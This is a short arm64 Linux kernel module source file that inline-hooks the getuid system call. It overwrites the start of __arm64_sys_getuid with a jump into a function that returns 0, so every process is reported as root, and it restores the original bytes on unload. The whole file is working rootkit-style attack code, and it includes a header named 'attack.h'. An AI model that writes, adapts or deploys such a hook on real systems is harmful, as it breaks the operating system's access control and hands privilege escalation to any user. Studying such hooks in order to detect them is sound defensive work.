// SPDX-License-Identifier: Apache-2.0
/*
 * Inline hook: the first instructions of getuid() become a jump into this module, which answers 0
 * to everybody. The writable mapping by which that was done is gone when it is done.
 */
#include "attack.h"

struct jump {
    u32 load, branch; /* ldr x16, .+8; br x16 */
    u64 target;
} __packed;

static struct jump original;
static unsigned long site;

static long everybody_is_root(const struct pt_regs *regs)
{
    return 0;
}

static int __init mount(void)
{
    struct jump jump = {0x58000050, 0xd61f0200, (u64)(void *)everybody_is_root};

    site = lookup("__arm64_sys_getuid");
    if (site == 0)
        return -ENOENT;
    memcpy(&original, (void *)site, sizeof(original));
    return image_write(site, &jump, sizeof(jump));
}

static void __exit undo(void)
{
    image_write(site, &original, sizeof(original));
}

module_init(mount);
module_exit(undo);
MODULE_DESCRIPTION("inline hook of a system call");
MODULE_LICENSE("GPL");
